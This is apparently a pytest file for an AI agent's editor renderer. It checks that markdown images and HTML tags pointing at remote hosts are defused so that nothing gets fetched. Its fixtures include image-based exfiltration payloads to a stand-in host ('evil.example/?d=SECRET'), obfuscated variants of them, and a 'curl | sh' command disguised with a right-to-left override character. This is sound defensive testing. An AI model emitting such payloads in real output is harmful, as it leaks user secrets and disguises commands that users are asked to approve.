"""What an editor draws of an answer fetches nothing, in whatever pieces it came; links and local images stay."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from laguna_agent.acp import schema
from laguna_agent.acp.prose import Prose, unfetched
from laguna_agent.agent import events
from laguna_agent.messages import TextBlock
from tests.acp.test_updates import renderer, wire


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?d=SECRET)",
        "![x](http://evil.example)",
        "![x](//evil.example/x)",
        "![a\nb](https://evil.example)",
        "![a [b] c](https://evil.example)",
        "![" + "a" * 5_000 + "](https://evil.example)",
        "![x](\n  https://evil.example)",
        "![x](<https://evil.example>)",
        "![x](HTTPS://evil.example 'title')",
        "![x](https&#58;//evil.example)",
        "![x](data:image/svg+xml,x)",
        "![x](\\\\host\\share)",
        "[![x](https://evil.example)](https://honest.example)",
        "```\n![x](https://evil.example)\n```",
        "![x](a.png) ![y](https://evil.example)",
    ],
)
def test_an_image_of_another_machine_becomes_text(text: str) -> None:
    shown = unfetched(text)
    assert "] (" in shown
    assert shown.replace("] (", "](") == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x][1]\n\n[1]: https://evil.example\n", "![x][1]\n\n[1] : https://evil.example\n"),
        ("> [ref]: //evil.example", "> [ref] : //evil.example"),
        ("- [ref]:\n  https://evil.example", "- [ref] :\n  https://evil.example"),
        ("<img src=https://evil.example>", "< img src=https://evil.example>"),
        ("<IMG\nsrc='//evil.example'>", "< IMG\nsrc='//evil.example'>"),
        ("<video poster=http://e>", "< video poster=http://e>"),
        ("<img src=https://evil.example", "< img src=https://evil.example"),
        ("<style>@import 'x'</style>", "<style>@import 'x'</style>"),
    ],
)
def test_references_and_html(text: str, shown: str) -> None:
    assert unfetched(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "A [link](https://example.org) and ![plot](out/plot.png) and ![p](/tmp/p.png).",
        "See [docs](https://example.org)!",
        "`vec![1, 2]` and `a[0](x)`, x[1]: int, if a < b and c > d: pass",
        "- [ ] to do\n- [x] done\n1. one\n",
        "<div>\n<b>bold</b> <image-like> <imgs>",
        "![x](a.png)\n\n[link](https://example.org)",
        "",
    ],
)
def test_the_rest_stays(text: str) -> None:
    assert unfetched(text) == text


ALPHABET = st.sampled_from(
    ["!", "[", "]", "(", ")", "a", " ", "\n", ":", "/", "//", "https://e", "<", ">", "<img ", "img", "1", "-", "![x](",
     "[1]:", "a.png", "\\", "\n\n"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(ALPHABET, max_size=20).map("".join), st.lists(st.integers(0, 50), max_size=6))
def test_no_split_changes_what_is_drawn(text: str, cuts: list[int]) -> None:
    ends = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    prose = Prose()
    pieces = [prose.feed(text[a:b]) for a, b in pairwise(ends)]
    shown = "".join(pieces) + prose.feed("", final=True)
    assert shown == unfetched(text)
    assert shown.replace(" ", "") == text.replace(" ", "")


def test_what_an_editor_is_sent() -> None:
    face = renderer()
    sent = []
    for piece in (
        "Look: !",
        "[x",
        "](ht",
        "tps://evil.example/?d=S)\u202e \U0001f468",
        "\u200d\U0001f469 a\u200b",
        "!",
    ):
        sent += wire(face.render(events.TextDelta(piece)))
    sent += wire(face.render(events.TurnEnded("end_turn", "completed", 0)))
    said = "".join(update["content"]["text"] for update in sent)
    assert said == "Look: ![x] (https://evil.example/?d=S)\\u{202E} \U0001f468\u200d\U0001f469 a\\u{200B}!"
    assert len({update["messageId"] for update in sent}) == 1


def test_a_servers_result_and_a_question_are_shown_as_they_are() -> None:
    face = renderer()
    list(face.render(events.ToolCallStarted("1", "s__t", "other", "s: t\u202e")))
    ended = events.ToolCallUpdate("1", "completed", content=(TextBlock("![x](https://evil.example) \u200b"),))
    (update,) = wire(face.render(ended))
    assert update["content"][0]["content"]["text"] == "![x] (https://evil.example) \\u{200B}"
    asked = events.PermissionRequested(
        "2", "$ echo \u202ehs | lruc", "execute", {"command": "echo \u202ehs | lruc"}, ()
    )
    question = face.permission("s", asked)
    assert question.tool_call.title == "$ echo \\u{202E}hs | lruc"
    content = question.tool_call.content
    assert content
    assert isinstance(content[0], schema.Content)
    assert isinstance(content[0].content, schema.TextContent)
    assert content[0].content.text == "```\necho \\u{202E}hs | lruc\n```"
